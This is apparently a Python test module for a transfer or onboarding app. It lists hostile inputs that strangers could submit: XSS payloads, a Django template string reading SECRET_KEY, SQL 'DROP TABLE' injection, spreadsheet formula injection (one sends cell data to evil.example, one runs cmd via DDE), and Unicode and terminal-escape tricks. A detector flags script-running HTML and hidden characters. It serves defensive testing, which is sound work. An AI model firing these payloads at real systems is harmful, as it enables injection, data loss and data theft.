"""Texts that strangers can put in front of a person or of staff: anybody can send somebody a transfer."""

import re
import unicodedata
from html.parser import HTMLParser

TEXTS = {
    "script": "<script>alert('planted-7001')</script>",
    "handler": "\"><img src=x onerror=alert('planted-7001')>",
    "single quoted handler": "' onmouseover='alert(1)' x='planted-7001",
    "svg": "<svg/onload=alert(1)>planted-7001",
    "link": "javascript:alert(1)//planted-7001",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/planted-7001">',
    "template": "{{ 7|add:4242 }}{% debug %}planted-7001{{ settings.SECRET_KEY }}",
    "statement": "planted-7001'); DROP TABLE onboarding_transaction; --",
    "comment": "planted-7001 --><!-- ]]> </textarea></title></style>",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"planted-7001")',
    "formula after a plus": "+1+cmd|' /C calc'!A0 planted-7001",
    "formula after a minus": "-2+3+planted-7001",
    "formula after an at": "@SUM(1+9) planted-7001",
    "formula after a tab": "\t=1+1 planted-7001",
    "formula after a carriage return": "\r=1+1 planted-7001",
    "formula after a semicolon": "planted-7001;=1+1",
    "format string": "%s%s%n %(secret)s {0.__class__} planted-7001",
    "right-to-left override": "planted-7001 \u202e00.001- gnp.exe\u202c",
    "isolates": "planted-7001 \u2067abc\u2066def\u2069 \u200f \u061c",
    "zero width": "plan\u200bted\u200d-7001\ufeff\u2060",
    "second controls": "planted-7001 \u009b31mred\u0085next\u009d0;title\u009c",
    "line separators": "planted-7001\u2028two\u2029three",
    "tags": "planted-7001\U000e0041\U000e0042",
    "combining": "planted-7001 " + "Z" + "\u0351\u036b\u0343\u036a\u0302" * 40,
}
"""What an XML document can hold. ``planted-7001`` must still be found where a text is shown."""

MARK = "planted-7001"
CONTROLS = {
    "escape": "planted-7001 \x1b[2J\x1b]0;title\x07\x1b[31mred",
    "zero": "planted-7001\x00 after",
    "backspaces": "planted-7001\x08\x08\x08\x08",
    "half a surrogate": "planted-7001 \ud800",
}
"""What only JSON or a file can hold besides."""

_TURNS_OR_HIDES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base"} or (tag == "script" and not given.get("src")):
            self.wrong.append(f"<{tag}>")
        self.wrong += [f"{tag} {name}" for name in given if name.startswith("on") or name in ("style", "srcdoc")]
        for name in ("href", "src", "action", "formaction", "content"):
            address = given.get(name, "").strip().lower()
            if address.startswith(("javascript:", "data:", "vbscript:")) or "evil.example" in address:
                self.wrong.append(f"{tag} {name}={address}")


def harm_in(page: str) -> list[str]:
    """Return what of a page a browser would run, or what would turn or hide text; empty when all of it is inert."""
    reader = _Reader()
    reader.feed(page)
    return reader.wrong + signs_in(page)


def signs_in(text: str) -> list[str]:
    """Return the signs of a text that turn or hide it, or that a terminal would follow."""
    return [unicodedata.name(sign, hex(ord(sign))) for sign in _TURNS_OR_HIDES.findall(text)]
